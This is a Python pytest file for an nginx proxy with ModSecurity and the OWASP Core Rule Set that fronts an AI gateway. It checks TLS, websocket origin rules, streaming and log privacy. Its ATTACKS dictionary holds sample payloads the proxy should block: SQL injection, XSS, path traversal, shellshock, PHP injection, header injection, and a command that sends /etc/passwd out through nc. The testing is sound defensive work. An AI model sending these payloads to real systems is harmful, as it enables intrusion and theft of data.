"""The proxy's own configuration as a process of nginx, with the OWASP Core Rule Set, before the real gateway."""

import os
import signal
import socket
import ssl
import threading
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from websockets.exceptions import InvalidStatus
from websockets.sync.client import connect
from websockets.typing import Subprotocol

from course_utils.files import PROJECT
from course_utils.processes import LOOPBACK, Server, choose_port
from deploy.serve import is_installed
from deploy.services import SERVICES, Proxy
from tests.http_servers import JsonHandler, serve
from tests.programs import is_open
from tests.stack.test_gateway import CHAT, SQL, events
from tests.waiting import comes_true

pytestmark = pytest.mark.skipif(
    not is_installed("nginx"),
    reason="Debian's nginx, libnginx-mod-http-modsecurity and modsecurity-crs are not all installed",
)


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("proxy")


@pytest.fixture(scope="module")
def plain_port() -> int:
    return choose_port(LOOPBACK)


@pytest.fixture(scope="module")
def proxy(gateway: Server, folder: Path, plain_port: int) -> Iterator[httpx.Client]:
    with start_proxy(gateway.url, folder, plain_port) as client:
        yield client


@contextmanager
def start_proxy(behind: str, folder: Path, plain_port: int) -> Iterator[httpx.Client]:
    port = choose_port(LOOPBACK)
    with Proxy(behind, behind, folder, port, plain_port):
        trusted = ssl.create_default_context(cafile=str(folder / "certificate"))
        with httpx.Client(base_url=f"https://localhost:{port}", verify=trusted, timeout=60, trust_env=False) as client:
            yield client


def test_the_gateway_may_have_a_name_and_the_folder_any(gateway: Server, tmp_path: Path) -> None:
    folder = tmp_path / """Ana's "course"; {1} $HOME"""
    with start_proxy(gateway.url.replace(LOOPBACK, "localhost"), folder, choose_port(LOOPBACK)) as client:
        assert client.get("/v1/models").status_code == 200
    assert '"path":"/v1/models"' in (folder / "access.log").read_text("utf-8")


def test_a_certificate_is_kept_unless_a_full_disk_left_it_empty(gateway: Server, tmp_path: Path) -> None:
    certificate, kept = tmp_path / "certificate", set[str]()
    certificate.touch()
    for _ in range(2):
        with start_proxy(gateway.url, tmp_path, choose_port(LOOPBACK)) as client:
            assert client.get("/health/live").status_code == 200
        kept.add(certificate.read_text("utf-8"))
    assert len(kept) == 1


def test_the_web_app_opens_under_a_name_of_its_own(gateway: Server, tmp_path: Path) -> None:
    """As compose.yaml starts it; the origin that a browser names is compared with the host that it asks."""
    port, proxy_port = choose_port(LOOPBACK), choose_port(LOOPBACK)
    options = [*SERVICES["web"]["entrypoint"][3:], "--server.address", LOOPBACK, "--server.port", str(port)]
    where = {"url": f"http://{LOOPBACK}:{port}", "health": "/_stcore/health"}
    with (
        Server("web app", "streamlit", options, **where) as web,
        Proxy(gateway.url, web.url, tmp_path, proxy_port, choose_port(LOOPBACK)),
    ):
        for name in ("course.example.org", f"course.example.org:{proxy_port}"):
            given: Any = {"ssl": ssl._create_unverified_context(), "subprotocols": [Subprotocol("streamlit")]}
            given |= {"sock": socket.create_connection((LOOPBACK, proxy_port)), "origin": f"https://{name}"}
            with connect(f"wss://{name}/_stcore/stream", **given) as page:
                assert page.subprotocol == "streamlit"
            for origin in ("https://evil.example", f"https://{name}.evil.example", f"http://{name}", "null"):
                given |= {"sock": socket.create_connection((LOOPBACK, proxy_port)), "origin": origin}
                with (
                    pytest.raises(InvalidStatus, match="403") as refused,
                    connect(f"wss://{name}/_stcore/stream", **given),
                ):
                    pass
                assert b"nginx" in refused.value.response.body, "the proxy says it, not who is behind it"


def test_tls_with_a_certificate_that_the_client_checks(proxy: httpx.Client, plain_port: int) -> None:
    response = proxy.get("/health/live")
    assert response.status_code == 200
    assert response.headers["Strict-Transport-Security"]
    with pytest.raises(httpx.ConnectError):
        httpx.get(f"{proxy.base_url}/health/live", trust_env=False)
    plain = httpx.get(f"http://{LOOPBACK}:{plain_port}/v1/models", trust_env=False)
    assert (plain.status_code, plain.headers["Location"]) == (308, f"https://{LOOPBACK}/v1/models")


HONEST = [
    "How many singers are there?",
    "Drop everything and tell me: which union has members in 1=1 place?",
    "Which songs are called 'Robert'); DROP TABLE students;--'?",
    "List <b>bold</b> names from /etc/passwd or C:\\boot.ini, please",
    "Welche Sänger heißen Zoë? 日本の歌手は?",
]


@pytest.mark.parametrize("question", HONEST)
def test_an_honest_question_passes_whatever_its_words(proxy: httpx.Client, question: str) -> None:
    assert proxy.post("/v1/sql", json=SQL | {"question": question}).status_code == 200
    chat = CHAT | {"messages": [{"role": "user", "content": question}]}
    assert proxy.post("/v1/chat/completions", json=chat).status_code == 200


def test_a_correction_is_sql_and_passes(proxy: httpx.Client) -> None:
    query = "SELECT name FROM singer WHERE name = 'Ana' OR 1 = 1 UNION SELECT name FROM singer -- all"
    body = {"id": "x", "rating": "down", "database": "music", "query": query, "correction": query}
    assert proxy.post("/v1/feedback", json=body).status_code == 201


def test_a_stream_comes_piece_by_piece(proxy: httpx.Client) -> None:
    with proxy.stream("POST", "/v1/chat/completions", json=CHAT | {"stream": True}) as response:
        assert response.status_code == 200
        assert "Content-Length" not in response.headers
        assert len(events(response)) > 2


class InTwoPieces(JsonHandler):
    """Answers, and has more to say once the server is told that it may."""

    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"data: one\n\n")
        self.server.may_end.wait(30)
        self.wfile.write(b"data: [DONE]\n\n")


def test_a_stream_ends_before_the_proxy_does_that_compose_stops(tmp_path: Path) -> None:
    compose = yaml.safe_load((PROJECT / "deploy" / "compose.yaml").read_text("utf-8"))["services"]["proxy"]
    number = signal.Signals[compose.get("stop_signal", "SIGTERM")]
    plain_port = choose_port(LOOPBACK)
    with (
        serve(InTwoPieces, may_end=threading.Event()) as model,
        start_proxy(model.url, tmp_path, plain_port) as client,
        client.stream("GET", "/v1/x") as response,
    ):
        pieces = response.iter_text()
        assert next(pieces) == "data: one\n\n"
        os.kill(int((tmp_path / "nginx.pid").read_text()), number)
        assert comes_true(lambda: not is_open(plain_port), 30), "it takes no more requests"
        model.may_end.set()
        assert "".join(pieces) == "data: [DONE]\n\n"


ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    "sql in the query": ("/v1/models?id=1' OR '1'='1", {}),
    "union in the query": ("/v1/models?id=1 UNION SELECT password FROM users--", {}),
    "script in the query": ("/v1/models?q=<script>alert(1)</script>", {}),
    "a file in the query": ("/v1/models?f=../../../../etc/passwd", {}),
    "a command in the query": ("/v1/models?c=;cat /etc/passwd|nc example.com 80", {}),
    "another server in the query": ("/v1/models?url=http://127.0.0.1/evil.php?", {}),
    "php in the query": ("/v1/models?x=<?php system('id'); ?>", {}),
    "a secret file in the path": ("/.git/config", {}),
    "a password file in the path": ("/app/.env", {}),
    "a scanner": ("/v1/models", {"User-Agent": "sqlmap/1.7"}),
    "shellshock in a header": ("/v1/models", {"X-Api": "() { :;}; /bin/cat /etc/passwd"}),
    "script in a header": ("/v1/models", {"Referer": "https://x/<script>alert(document.cookie)</script>"}),
    "sql in a cookie": ("/v1/models", {"Cookie": "a=1' UNION SELECT name FROM sqlite_master--"}),
    "a header in a parameter": ("/v1/models?a=x%0d%0aSet-Cookie: admin=1", {}),
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_ends_at_the_proxy(proxy: httpx.Client, attack: tuple[str, dict[str, str]]) -> None:
    path, headers = attack
    assert proxy.get(path, headers=headers).status_code == 403


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PATCH", "PROPFIND"])
def test_a_method_that_nothing_here_takes(proxy: httpx.Client, method: str) -> None:
    assert proxy.request(method, "/v1/models").status_code in (400, 403, 405)


@pytest.mark.parametrize("path", ["/metrics", "/docs", "/openapi.json", "/health/ready", "/_stcore/metrics"])
def test_what_operators_read_is_not_outside(proxy: httpx.Client, path: str) -> None:
    answer = proxy.get(path)
    assert (answer.status_code, "nginx" in answer.text) == (404, True), "the proxy says it, not who is behind it"


@pytest.mark.parametrize("path", ["/_stcore/upload_file/session/file", "/_stcore//upload%5Ffile/session/file"])
def test_the_web_app_is_sent_no_files(proxy: httpx.Client, path: str) -> None:
    answer = proxy.put(path, files={"file": b"x"})
    assert (answer.status_code, "nginx" in answer.text) == (404, True), "the proxy says it, not who is behind it"


def test_a_body_that_is_too_large_or_no_json(proxy: httpx.Client) -> None:
    assert proxy.post("/v1/sql", json=SQL | {"question": "x" * 200_000}).status_code == 413
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    assert proxy.post("/v1/sql", content=b"question=x", headers=form).status_code == 403


@pytest.mark.parametrize("path", ["/v1/sql", "/health/live", "/"])
def test_a_client_that_holds_many_bodies_back_is_refused(proxy: httpx.Client, path: str) -> None:
    """Or it would take all connections of the proxy, which ModSecurity's rules keep until a body is there."""
    head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nUser-Agent: curl/8\r\nAccept: */*\r\n"
    head += "Content-Type: application/json\r\nContent-Length: 9\r\n\r\n"
    with ExitStack() as opened:
        for _ in range(70):  # 64 are allowed
            plain = socket.create_connection((LOOPBACK, proxy.base_url.port))
            held = opened.enter_context(ssl._create_unverified_context().wrap_socket(plain))
            held.sendall(head.encode())
        assert held.recv(12) == b"HTTP/1.1 429"


def test_the_log_keeps_nothing_of_what_users_write(proxy: httpx.Client, folder: Path) -> None:
    proxy.get("/v1/models?name=Mustermann", headers={"Authorization": "Bearer sesame"})
    log = folder / "access.log"
    assert comes_true(lambda: '"path":"/v1/models"' in log.read_text("utf-8"))
    assert not [word for word in ("Mustermann", "sesame") if word in log.read_text("utf-8")]
